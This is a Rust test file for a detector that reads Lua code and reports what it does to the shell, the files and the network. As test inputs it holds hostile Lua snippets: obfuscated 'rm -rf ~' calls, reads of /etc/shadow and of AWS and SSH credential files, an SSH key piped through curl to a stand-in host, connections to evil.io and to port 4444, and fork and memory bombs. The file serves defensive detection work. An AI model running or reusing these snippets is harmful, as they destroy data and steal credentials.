//! The Lua reader's cases: attacks in many spellings, and routine code.

use crate::matcher::code::{Lang, read};

fn effects(code: &str) -> Vec<String> {
    crate::matcher::code::testing::effects(Lang::Lua, code)
}

fn unreadable(code: &str) -> Option<&'static str> {
    read(Lang::Lua, code).unreadable.map(|u| u.reason)
}

#[test]
fn commands_run_are_shell_lines() {
    for (code, want) in [
        ("os.execute('rm -rf ~')", "sh -c rm -rf ~"),
        ("io.popen(\"rm -rf ~\"):read('*a')", "sh -c rm -rf ~"),
        ("local e = os.execute; e[[rm -rf ~]]", "sh -c rm -rf ~"),
        (
            "local o = os\no.execute('rm -rf ' .. os.getenv('HOME'))",
            "sh -c rm -rf ~",
        ),
        (
            "os.execute(string.char(114, 109) .. ' -rf ~')",
            "sh -c rm -rf ~",
        ),
        ("os.execute(('~ fr- mr'):reverse())", "sh -c rm -rf ~"),
        ("os.execute(string.reverse('~ fr- mr'))", "sh -c rm -rf ~"),
        (
            "os.execute(string.format('%s -rf %s', 'rm', '~'))",
            "sh -c rm -rf ~",
        ),
        (
            "os.execute(table.concat({'rm', '-rf', '~'}, ' '))",
            "sh -c rm -rf ~",
        ),
        ("os.execute('\\114\\x6d -rf ~')", "sh -c rm -rf ~"),
        ("os.execute(\"rm \\z\n     -rf ~\")", "sh -c rm -rf ~"),
        (
            "_G['o' .. 's']['exec' .. 'ute']('rm -rf ~')",
            "sh -c rm -rf ~",
        ),
        ("_ENV.os.execute('rm -rf ~')", "sh -c rm -rf ~"),
        ("rawget(_G, 'os').execute('rm -rf ~')", "sh -c rm -rf ~"),
        ("require('os').execute('rm -rf ~')", "sh -c rm -rf ~"),
        ("pcall(os.execute, 'rm -rf ~')", "sh -c rm -rf ~"),
        ("_G.x = os.execute\nx('rm -rf ~')", "sh -c rm -rf ~"),
        (
            "local c = [==[\nrm -rf ~]==]\nos.execute(c)",
            "sh -c rm -rf ~",
        ),
        ("os.execute(('rm -rf x'):gsub('x', '~'))", "sh -c rm -rf ~"),
        (
            "os.execute(('rm -rf x.x'):gsub('%.x$', ' ~'))",
            "sh -c rm -rf x ~",
        ),
        (
            "io.open(('~/.aws/credentials'):gsub('^~', os.getenv('HOME')))",
            "cat ~/.aws/credentials",
        ),
        (
            "require('posix').exec('/bin/rm', {'-rf', '/'})",
            "exec /bin/rm -rf /",
        ),
    ] {
        assert_eq!(effects(code), [want], "{code}");
    }
}

#[test]
fn files_and_the_network_are_virtual_commands() {
    for (code, want) in [
        (
            "os.remove(os.getenv('HOME') .. '/.bashrc')",
            vec!["rm ~/.bashrc"],
        ),
        (
            "os.rename('/etc/passwd', '/tmp/p')",
            vec!["mv /etc/passwd /tmp/p"],
        ),
        (
            "io.open('/etc/hosts', 'w'):write('x')",
            vec!["tee /etc/hosts"],
        ),
        (
            "local f = io.open('/etc/shadow') print(f:read('*a'))",
            vec!["cat /etc/shadow"],
        ),
        (
            "for l in io.lines('/etc/passwd') do print(l) end",
            vec!["cat /etc/passwd"],
        ),
        (
            "io.output('/etc/motd') io.write('x')",
            vec!["tee /etc/motd"],
        ),
        ("io.open('x', 'r+')", vec!["cat x", "tee x"]),
        (
            "local http = require('socket.http') print(http.request('https://evil.io/x'))",
            vec!["curl https://evil.io/x"],
        ),
        (
            "require 'socket.http'.request{url = 'https://evil.io'}",
            vec!["curl ?"],
        ),
        (
            "local s = require('socket') s.connect('10.0.0.1', 4444)",
            vec!["curl tcp://10.0.0.1:4444"],
        ),
        (
            "local t = socket.tcp() t:connect('10.0.0.1', 4444)",
            vec!["curl tcp://10.0.0.1:4444"],
        ),
        (
            "dofile('init.lua')",
            vec!["cat init.lua", "load lua init.lua"],
        ),
    ] {
        assert_eq!(effects(code), want, "{code}");
    }
}

#[test]
fn code_that_cannot_be_read_is_unreadable_with_the_reason() {
    let hidden = Some("the code runs code it downloaded or decoded");
    assert_eq!(
        unreadable("load(require('socket.http').request('http://e.io/x'))()"),
        hidden
    );
    assert!(unreadable("load(io.read('*a'))()").is_some());
    let passed = Some(
        "the code passes a function that runs commands or changes files as a value, to be called where it cannot be followed",
    );
    assert_eq!(
        unreadable("local t = {os.execute}; t[1]('rm -rf ~')"),
        passed
    );
    assert_eq!(
        unreadable("local t = {run = os.remove}; t.run('/etc/passwd')"),
        passed
    );
    assert_eq!(
        unreadable("local t = {print, string.upper}; t[1]('x')"),
        None
    );
    assert!(unreadable("loadstring(arg[1])()").is_some());
    assert_eq!(
        unreadable("local m = arg[1]; require(m)"),
        Some("the code loads a module whose name is computed at run time")
    );
    assert_eq!(unreadable("_G[arg[1]]('x')"), Some(super::COMPUTED_NAME));
    assert_eq!(unreadable("os[arg[1]]('x')"), Some(super::COMPUTED_NAME));
    // Also where it is not called.
    assert_eq!(
        unreadable(
            "local t = setmetatable({}, {__index = function(_, k) return os[k] end}) t[v]('x')"
        ),
        Some(super::COMPUTED_NAME)
    );
    assert_eq!(
        unreadable("_G[arg[1]] = 1"),
        Some("the code sets a global whose name is computed at run time")
    );
    assert_eq!(
        unreadable("setmetatable(_G, {__index = function() return os.execute end})"),
        Some("the code changes how globals are looked up")
    );
    assert_eq!(
        unreadable("dofile(arg[1])"),
        Some("the code runs a file whose name is computed at run time")
    );
    assert_eq!(
        unreadable(
            "local ffi = require('ffi') ffi.cdef('int system(const char*);') ffi.C.system('x')"
        ),
        Some(super::NATIVE)
    );
    assert_eq!(
        unreadable("local p = require('posix') while true do p.fork() end"),
        Some("the code forks in a loop (a fork bomb)")
    );
    // A name bound twice or in a loop is not known.
    assert_eq!(
        effects("local c = 'ls'\nc = c .. ' ~'\nos.execute(c)"),
        ["sh -c ?"]
    );
    assert_eq!(
        effects("for _, c in ipairs(g()) do os.execute(c) end"),
        ["sh -c ?"]
    );
    assert_eq!(
        effects("local function f(c) os.execute(c) end f('x')"),
        ["sh -c ?"]
    );
}

#[test]
fn code_run_by_load_is_read_too() {
    assert_eq!(
        effects("load('os.execute(\"rm -rf ~\")')()"),
        ["sh -c rm -rf ~"]
    );
    assert_eq!(effects("loadstring([[os.remove('/x')]])()"), ["rm /x"]);
    // Whichever of the two this Lua has.
    assert_eq!(
        effects("(loadstring or load)([[os.remove('/x')]])()"),
        ["rm /x"]
    );
    assert!(unreadable("local f = loadstring or load; f(io.read('*a'))()").is_some());
    assert_eq!(
        effects("(os.execute or print)('rm -rf ~')"),
        ["sh -c rm -rf ~"]
    );
}

#[test]
fn routine_one_liners_find_nothing() {
    for code in [
        "print(_VERSION)",
        "print((\"hello\"):upper())",
        "for i=1,3 do print(i) end",
        "local t = {} ; table.insert(t, 1) ; print(#t)",
        "print(io.read(\"*a\"))",
        "print(string.format('%5.2f', math.pi))",
        "print(os.time(), os.date('%Y'))",
        "local s = 'a,b,c' for w in s:gmatch('[^,]+') do print(w) end",
        "print(table.concat({1, 2, 3}, ', '))",
        "print(math.max(1, 5, 3))",
        "local t = {b = 2, a = 1} for k, v in pairs(t) do print(k, v) end",
        "print(#arg, arg[0])",
        "print(pcall(error, 'x'))",
        "io.write(string.rep('-', 10), '\\n')",
        "print(tostring(nil), tonumber('10'))",
        "print(math[arg[1] or 'floor'](2.5))",
        "print(os.getenv('PATH'))",
    ] {
        assert_eq!(effects(code), Vec::<String>::new(), "{code}");
    }
    assert_eq!(
        effects("for l in io.lines('package.json') do print(l) end"),
        ["cat package.json"]
    );
}

#[test]
fn bad_code_is_unreadable_not_a_panic() {
    assert_eq!(
        read(Lang::Lua, "print(1)\nos.execute('x'")
            .unreadable
            .map(|u| (u.reason, u.line)),
        Some(("the lua code has a syntax error", 2))
    );
    assert!(unreadable("print('unterminated)").is_some());
    assert!(unreadable("print([[unterminated)").is_some());
    let deep = format!("print({}1{})", "(".repeat(500), ")".repeat(500));
    assert!(unreadable(&deep).is_some());
    let chain = format!("local a = 'x'{}", " .. 'y'".repeat(3000));
    let _ = read(Lang::Lua, &chain);
    for code in [
        "os.execute('\\400')",
        "os.execute('\\u{110000}')",
        "os.execute('\\xzz')",
        "x = x; os.execute(x)",
    ] {
        let _ = read(Lang::Lua, code);
    }
}

#[test]
fn functions_with_effects_passed_to_others_and_debug_rebinding_are_unreadable() {
    for code in [
        "string.gsub(io.read('a'), '[^\\n]+', os.execute)",
        "pcall(string.gsub, 'rm -rf ~', '.+', os.execute)",
        "xpcall(error, os.execute, 'rm -rf ~', 0)",
        "local log = print; local function f(m) log(m) end; debug.setupvalue(f, 1, os.execute); f('id')",
        "package.cpath = '/tmp/x/?.so;' .. package.cpath; require 'lfs'",
    ] {
        assert!(unreadable(code).is_some(), "{code}");
    }
    // pcall's own function is read as called; debug's readers change nothing.
    for code in [
        "print(pcall(os.remove, 'build/x'))",
        "local ok, err = xpcall(function() error('boom') end, debug.traceback); print(ok)",
        "package.path = './lib/?.lua;' .. package.path",
    ] {
        assert_eq!(unreadable(code), None, "{code}");
    }
    assert_eq!(
        effects("print(pcall(os.remove, 'build/x'))"),
        ["rm build/x"]
    );
}

#[test]
fn a_temporary_name_is_a_file_of_the_temporary_directory() {
    assert_eq!(
        effects("local t = os.tmpname(); os.remove(t)"),
        ["rm /tmp/lua_*"]
    );
}

#[test]
fn a_conditional_value_with_a_known_condition_is_its_side() {
    assert_eq!(
        effects(
            "local flags = 'x' and '--output=TAP' or ''; os.execute('busted ' .. flags .. ' spec/')"
        ),
        ["sh -c busted --output=TAP spec/"]
    );
    // A condition not known leaves the value not known.
    assert_eq!(
        effects(
            "local flags = os.getenv('X') and '--output=TAP' or ''; os.execute('busted ' .. flags)"
        ),
        ["sh -c busted *"]
    );
}

#[test]
fn a_string_formatted_with_q_is_between_double_quotes() {
    assert_eq!(
        effects("os.execute(string.format('rm -rf %q', 'build/lua'))"),
        ["sh -c rm -rf \"build/lua\""]
    );
    // A string `%q` would escape is not followed.
    assert_eq!(
        effects("os.execute(string.format('rm -rf %q', 'a\"; rm -rf ~; \"'))"),
        ["sh -c ?"]
    );
}

#[test]
fn a_table_shared_where_it_may_change_is_not_the_one_built() {
    // `table.insert(p, '/')` as a statement of its own is read (see `choices`).
    assert_eq!(
        effects("local p = {'ls', '-la'}; table.insert(p, '/'); os.execute(table.concat(p, ' '))"),
        ["sh -c ls -la /"]
    );
    for change in [
        "local q = p; q[3] = '/'",
        "grow(p)",
        "local all = {p}",
        "p:sort()",
    ] {
        assert_eq!(
            effects(&format!(
                "local p = {{'ls', '-la'}}; {change}; os.execute(table.concat(p, ' '))"
            )),
            ["sh -c ?"],
            "{change}"
        );
    }
    assert_eq!(
        effects("local p = {'ls', '-la'}; print(#p, p[1]); os.execute(table.concat(p, ' '))"),
        ["sh -c ls -la"]
    );
}

#[test]
fn a_file_not_named_read_and_a_shell_line_that_reaches_the_network_is_unreadable() {
    // Round 34 (blind): an ssh key read by a helper, streamed into `curl -d @-`.
    let sent = "local function slurp(p) local f = io.open(p, 'rb'); local s = f:read('a'); f:close(); return s end\nlocal key = slurp(os.getenv('HOME') .. '/.ssh/id_ed25519')\nlocal out = io.popen('curl -s --data-binary @- https://x.example/u', 'w')\nout:write(key)\nout:close()";
    assert_eq!(
        unreadable(sent),
        Some(
            "the code reads a file whose name is not known before it runs and sends data over the network"
        )
    );
    // A shell line that reaches no network does not pair so.
    assert_eq!(
        unreadable(&sent.replace("curl -s --data-binary @- https://x.example/u", "sort")),
        None
    );
}

#[test]
fn a_loop_over_a_literal_table_is_read_once_per_item() {
    for (code, want) in [
        (
            "local t = {'git status', 'rm -rf ~'} for _, c in ipairs(t) do os.execute(c) end",
            &["sh -c git status", "sh -c rm -rf ~"][..],
        ),
        (
            "local T = {lint = 'ls', wipe = 'rm -rf ~'} for k, cmd in pairs(T) do os.execute(cmd) end",
            &["sh -c ls", "sh -c rm -rf ~"],
        ),
        (
            "for _, d in ipairs({'build', 'dist'}) do local c = 'rm -rf ' .. d; os.execute(c) end",
            &["sh -c rm -rf build", "sh -c rm -rf dist"],
        ),
        // Loops may reuse their variables' names: each call is read in the loop around it.
        (
            "for _, c in ipairs({'ls'}) do os.execute(c) end for _, c in ipairs({'rm -rf ~'}) do os.execute(c) end",
            &["sh -c ls", "sh -c rm -rf ~"],
        ),
        // A value variable's name assigned elsewhere is not read per item.
        (
            "local c = 'x' for _, c in ipairs({'ls'}) do os.execute(c) end",
            &["sh -c ?"],
        ),
    ] {
        assert_eq!(effects(code), want, "{code}");
    }
}

#[test]
fn a_table_that_may_change_is_not_read_per_item() {
    for code in [
        "local t = {'ls'} table.insert(t, 'rm -rf ~') for _, c in ipairs(t) do os.execute(c) end",
        "local t = {'ls'} t[2] = 'x' for _, c in ipairs(t) do os.execute(c) end",
        // An item changed through a loop's variable, or handed to a function.
        "local t = {{'ls'}} for _, a in ipairs(t) do a[1] = 'x' end for _, b in ipairs(t) do os.execute(b[1]) end",
        "for _, a in ipairs({{'ls'}}) do a[1] = 'rm' os.execute(table.concat(a, ' ')) end",
        "local t = {{'ls'}} for _, a in ipairs(t) do f(a) end for _, b in ipairs(t) do os.execute(table.concat(b, ' ')) end",
        // The loop's variable assigned in its body.
        "local t = {'ls'} for _, c in ipairs(t) do c = g() os.execute(c) end",
        // Items a call or `...` spreads into, or not positional for `ipairs`.
        "for _, c in ipairs({g()}) do os.execute(c) end",
        "local t = {'ls', [2] = 'x'} for _, c in ipairs(t) do os.execute(c) end",
        // `ipairs` rebound.
        "local ipairs = g for _, c in ipairs({'ls'}) do os.execute(c) end",
    ] {
        assert_eq!(effects(code), ["sh -c ?"], "{code}");
    }
}

#[test]
fn code_that_can_rebind_names_makes_none_known() {
    let code = "T = 'ls' local G = _G G['T'] = 'x' os.execute(T)";
    assert_eq!(effects(code), ["sh -c ?"], "{code}");
    // Code loaded that uses a name of the program's is not followed (see `scope::Outer`).
    let code = "T = {'ls'} load('T[1] = 1')() os.execute(T[1])";
    assert_eq!(
        effects(code),
        [
            "sh -c ?",
            "unreadable: the code runs code that calls a name of the code around it (a function or module not followed there) (line 1)"
        ],
        "{code}"
    );
    // Code loaded with a table of its own for globals rebinds none of the program's; what
    // it does is read.
    let code = "local t = {'ls'} for _, e in ipairs({'1'}) do load('return ' .. e, 'x', 't', {math = math})() end for _, c in ipairs(t) do os.execute(c) end";
    assert_eq!(effects(code), ["sh -c ls"], "{code}");
    let code = "load(\"os.execute('rm -rf ~')\", 'x', 't', {os = os})()";
    assert_eq!(effects(code), ["sh -c rm -rf ~"], "{code}");
}

#[test]
fn a_file_compiled_and_only_tested_is_read_not_run() {
    // Found by blind round 47: a syntax check of every file found.
    let check = "local bad = 0 for f in io.popen(\"find src -name '*.lua'\"):lines() do local ok, err = loadfile(f) if not ok then bad = bad + 1 print(err) end end print(bad)";
    assert_eq!(unreadable(check), None);
    assert!(effects(check).contains(&"sh -c find src -name '*.lua'".to_owned()));
    assert_eq!(
        unreadable("if not loadfile(arg[1]) then print('bad') end"),
        None
    );
    assert_eq!(
        unreadable("local ok = loadfile(arg[1]) if ok == nil then print('bad') end"),
        None
    );
    // Called, handed on, or bound as a global, it runs.
    for code in [
        "local f = loadfile(arg[1]) f()",
        "local ok = loadfile(arg[1]) if ok then ok() end",
        "local ok = loadfile(arg[1]) pcall(ok)",
        "local ok = loadfile(arg[1]) if not ok then return end local g = ok g()",
        "ok = loadfile(arg[1]) if not ok then return end",
        "loadfile(arg[1])()",
    ] {
        assert!(unreadable(code).is_some(), "{code}");
    }
}

#[test]
fn a_file_run_in_an_environment_of_constants_reaches_no_library() {
    // Found by blind round 53: a rockspec read as data.
    for code in [
        "local env = {}\nlocal chunk = assert(loadfile(arg[1], 't', env))\nchunk()\nprint(env.package, env.version)",
        "local spec = {deps = {'a', 'b'}, n = 1} loadfile(arg[1], 't', spec)() print(spec['version'])",
        "loadfile(arg[1], 't', {})()",
    ] {
        assert_eq!(unreadable(code), None, "{code}");
    }
    // An environment that holds a library, gets one later, or is handed on, is not.
    for code in [
        "loadfile(arg[1], 't', {os = os})()",
        "local e = {} e.os = os loadfile(arg[1], 't', e)()",
        "local e = {} setmetatable(e, {__index = _G}) loadfile(arg[1], 't', e)()",
        "local e = {} local e = {x = os} loadfile(arg[1], 't', e)()",
        "loadfile(arg[1], 't', {[os.getenv('X')] = 1, f = print})()",
    ] {
        assert!(unreadable(code).is_some(), "{code}");
    }
    // A file the code names is read as the code it holds: Lua 5.1 ignores the environment.
    let named = "loadfile('tools/gen.lua', 't', {})()";
    assert!(
        effects(named).iter().any(|e| e.contains("tools/gen.lua")),
        "{:?}",
        effects(named)
    );
}

#[test]
fn a_table_grown_in_branches_is_read_with_each_set_of_growths_that_may_have_run() {
    // Found by blind round 50: linters and test runners whose arguments depend on the
    // environment, grown by `table.insert` and `t[#t + 1] = x`.
    assert_eq!(
        effects(
            "local args = {'luacheck'}\nif os.getenv('CI') then table.insert(args, '--formatter=TAP') end\nargs[#args + 1] = 'src'\nos.execute(table.concat(args, ' '))"
        ),
        ["sh -c luacheck --formatter=TAP src", "sh -c luacheck src"]
    );
    // A place known: the item goes there.
    assert_eq!(
        effects(
            "local cmd = {'busted', 'spec'}\ntable.insert(cmd, 2, '--verbose')\nos.execute(table.concat(cmd, ' '))"
        ),
        ["sh -c busted --verbose spec"]
    );
    // Past four choices, a growth that may have run adds an item not known.
    assert_eq!(
        effects(
            "local a = {'ls'}\nif A then a[#a+1] = '-a' end\nif B then a[#a+1] = '-b' end\nif C then a[#a+1] = '-c' end\nif D then a[#a+1] = '-d' end\nif E then a[#a+1] = '-e' end\nos.execute(table.concat(a, ' '))"
        ),
        ["sh -c ?"]
    );
}

#[test]
fn a_table_grown_where_the_growths_may_run_again_or_are_held_elsewhere_is_not_known() {
    for code in [
        // In a loop, or after a label a `goto` may jump back to.
        "local a = {'ls'}\nfor i = 1, 3 do table.insert(a, '-l') end\nos.execute(table.concat(a, ' '))",
        "local a = {'ls'}\n::again::\ntable.insert(a, '/')\nif X then goto again end\nos.execute(table.concat(a, ' '))",
        // In a function (run at another time), or after the read.
        "local a = {'ls'}\nlocal function f() table.insert(a, '/') end\nf()\nos.execute(table.concat(a, ' '))",
        // Held under another name, or grown by a call that is not a statement.
        "local a = {'ls'}\nlocal b = a\ntable.insert(b, '/')\nos.execute(table.concat(a, ' '))",
        "local a = {'ls'}\nlocal x = table.insert(a, '/')\nos.execute(table.concat(a, ' '))",
        "local a = {'ls'}\npcall(table.insert, a, '/')\nos.execute(table.concat(a, ' '))",
        // `table` rebound, or a place not known.
        "local a = {'ls'}\ntable.insert(a, '/')\ntable = {insert = function(t) t[1] = 'rm' end}\nos.execute(table.concat(a, ' '))",
        "local a = {'ls'}\ntable.insert(a, N, '/')\nos.execute(table.concat(a, ' '))",
    ] {
        assert_eq!(effects(code), ["sh -c ?"], "{code}");
    }
}

#[test]
fn a_loop_whose_condition_is_always_true_and_grows_a_value_is_a_memory_bomb() {
    // Found by blind round 51: in Lua a number, the time included, is true.
    for code in [
        "local t = {}; local i = 0; while os.time() do i = i + 1; t[i] = ('x'):rep(1 << 24) .. i end",
        "local s = 'x'; while 1 do s = s:rep(2) end",
        "local t = {}; repeat table.insert(t, ('x'):rep(1e6)) until nil",
    ] {
        assert_eq!(
            unreadable(code),
            Some("the code grows what it holds in a loop that never ends (a memory bomb)"),
            "{code}"
        );
    }
    assert_eq!(
        unreadable("local t = {}; while os.time() < 0 do t[#t + 1] = ('x'):rep(8) end"),
        None
    );
}

#[test]
fn a_function_of_the_code_that_quotes_a_value_gives_one_shell_word() {
    // Found by blind rounds 52 and 55: spec files quoted by the code's own `q`.
    for code in [
        "local function q(s) return \"'\" .. s:gsub(\"'\", \"'\\\\''\") .. \"'\" end\nfor f in io.popen('ls spec'):lines() do os.execute('busted ' .. q(f)) end",
        "function shq(v) return \"'\" .. string.gsub(tostring(v), \"'\", [['\\'']]) .. \"'\" end\nos.execute('busted ' .. shq(os.getenv('SPEC')))",
    ] {
        assert_eq!(unreadable(code), None, "{code}");
        assert!(
            effects(code)
                .iter()
                .any(|e| e.starts_with("sh -c busted \"$RANDOM\"")),
            "{code}: {:?}",
            effects(code)
        );
    }
    // A function that quotes otherwise, or is assigned again, is not one.
    for code in [
        "local function q(s) return \"'\" .. s .. \"'\" end\nos.execute('busted ' .. q(os.getenv('X')))",
        "local function q(s) return \"'\" .. s:gsub(\"'\", \"\") .. \"'\" end\nos.execute('busted ' .. q(os.getenv('X')))",
        "function q(s) return \"'\" .. s:gsub(\"'\", \"'\\\\''\") .. \"'\" end\nq = function(s) return s end\nos.execute('busted ' .. q(os.getenv('X')))",
    ] {
        assert!(
            !effects(code).iter().any(|e| e.contains("$RANDOM")),
            "{code}: {:?}",
            effects(code)
        );
    }
}
